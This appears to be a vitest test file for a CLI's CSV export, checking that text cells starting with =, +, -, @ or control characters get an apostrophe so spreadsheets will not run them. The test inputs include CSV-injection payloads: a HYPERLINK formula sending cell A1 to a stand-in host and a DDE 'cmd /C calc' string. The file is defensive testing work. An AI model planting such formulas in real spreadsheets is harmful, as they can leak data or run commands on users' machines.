import { describe, expect, it } from 'vitest';
import { csvRow } from '../../cli/commands/export.ts';
import { spreadsheetText } from '../../cli/csv.ts';
import { formatRows } from '../../cli/query/output.ts';
import { testArticle } from '../support/articles.ts';

describe('spreadsheetText: source text a spreadsheet will not run as a formula', () => {
  it('puts an apostrophe before text starting with =, +, -, @, a tab or a carriage return', () => {
    expect(['=HYPERLINK("http://x.test/?"&A1)', '+cmd', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1)', '\tTab', '\rCR'].map(spreadsheetText))
      .toEqual(['\'=HYPERLINK("http://x.test/?"&A1)', "'+cmd", '\'-2+3+cmd|\' /C calc\'!A0', "'@SUM(A1)", "'\tTab", "'\rCR"]);
  });

  it('leaves other text and plain numbers as they are', () => {
    expect(['Kazakhstan – Turkmenistan', ' =not first', '-12.5', '+7', '1,200', '', '«=»'].map(spreadsheetText))
      .toEqual(['Kazakhstan – Turkmenistan', ' =not first', '-12.5', '+7', '1,200', '', '«=»']);
  });
});

describe('CSV written for spreadsheets', () => {
  it('export: a hostile title and summary are written as text, quoted where RFC 4180 needs it', () => {
    const article = { ...testArticle('en-000001', '2025-11-04T09:00:00.000Z'), title: '=HYPERLINK("http://x.test","Click")', summary: '@import, then more' };
    const cells = csvRow(article);
    expect(cells).toContain(',"\'=HYPERLINK(""http://x.test"",""Click"")",');
    expect(cells).toContain(',"\'@import, then more",');
  });

  it('export: figures that start with a fall are text too; the confidence stays a number', () => {
    const fall = { kind: 'percent' as const, value: -5, unit: '%', raw: '-5%', paragraph: 1 };
    const article = { ...testArticle('en-000002', '2025-11-04T09:00:00.000Z', { figures: [fall] }) };
    const cells = csvRow(article).split(',');
    expect(cells).toContain("'-5 %");
    expect(cells.at(-1)).toBe(String(article.relations.confidence));
  });

  it('query: values of text columns are guarded; numbers and days written as text are not', () => {
    const rows = [['-1 formula', -1.5, '+012000-01-01'], ['plain', 2, '2025-11-04']];
    const columns = [{ name: 'title', text: true }, { name: 'delta', text: false }, { name: 'day', text: false }];
    expect(formatRows(columns, rows, 'csv'))
      .toBe("title,delta,day\n'-1 formula,-1.5,+012000-01-01\nplain,2,2025-11-04\n");
  });
});
